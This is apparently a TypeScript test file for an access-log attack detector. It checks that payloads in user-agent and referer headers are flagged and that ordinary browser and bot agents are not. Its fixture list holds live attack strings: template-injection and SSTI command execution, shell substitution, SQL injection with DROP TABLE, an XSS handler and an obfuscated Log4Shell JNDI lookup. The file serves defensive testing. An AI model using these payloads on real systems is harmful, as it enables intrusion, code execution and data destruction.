// Attacks in a user agent or referer, and what browsers and robots write there.
import { expect, it } from 'vitest';
import type { Detection } from './detection.ts';
import { detect, type Line, request } from './invented-logs.test-support.ts';

const attacks: readonly string[] = [
  '{{7*7}}',
  "{{7*'7'}}",
  '${class.getClassLoader()}',
  '<%= 7*7 %>',
  "{{cycler.__init__.__globals__.os.popen('id').read()}}",
  "${T(java.lang.Runtime).getRuntime().exec('id')}",
  "$(printf 'id')",
  "1';DROP TABLE members;--",
  "admin'--",
  '<details open ontoggle=prompt(1)>',
  "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example}",
];
const ordinary: readonly string[] = [
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) [FBAN/FBIOS;FBDV/iPhone14,2;FBLC/ja_JP;FBOP/5]',
  'Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)',
  "Mozilla/5.0 (compatible; Kiri's reader; +https://reader.example/bot)",
  'app/3.2.1 (build:44; iOS 17.5.1) Alamofire/5.8.1',
  'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)',
];
const client = (i: number) => `198.51.100.${i + 1}`;
const asked = (values: readonly string[], put: (value: string) => Partial<Parameters<typeof request>[0]>): Line[] =>
  values.map((value, i) => request({ at: i * 60, client: client(i), asks: 'GET /', size: 8_000, ...put(value) }));

const missed = (values: readonly string[], { actors }: Detection): readonly string[] =>
  values.filter((_, i) => !actors.some(({ id }) => id === client(i)));

it('every attack in a user agent is held against its client', async () => {
  const found = await detect({ 'access.log': asked(attacks, (agent) => ({ agent })) });
  expect(missed(attacks, found)).toStrictEqual([]);
});

it('every attack in a referer, percent-encoded or not', async () => {
  const referers = attacks
    .filter((attack) => !/^\$\(printf/.test(attack))
    .flatMap((attack) => [attack, encodeURIComponent(attack)].map((text) => `https://x.example/?q=${text}`));
  const found = await detect({ 'access.log': asked(referers, (referer) => ({ referer })) });
  expect(missed(referers, found)).toStrictEqual([]);
});

it('what browsers and robots write is held against nobody', async () => {
  const found = await detect({ 'access.log': asked(ordinary, (agent) => ({ agent })) });
  expect(found.actors).toStrictEqual([]);
});
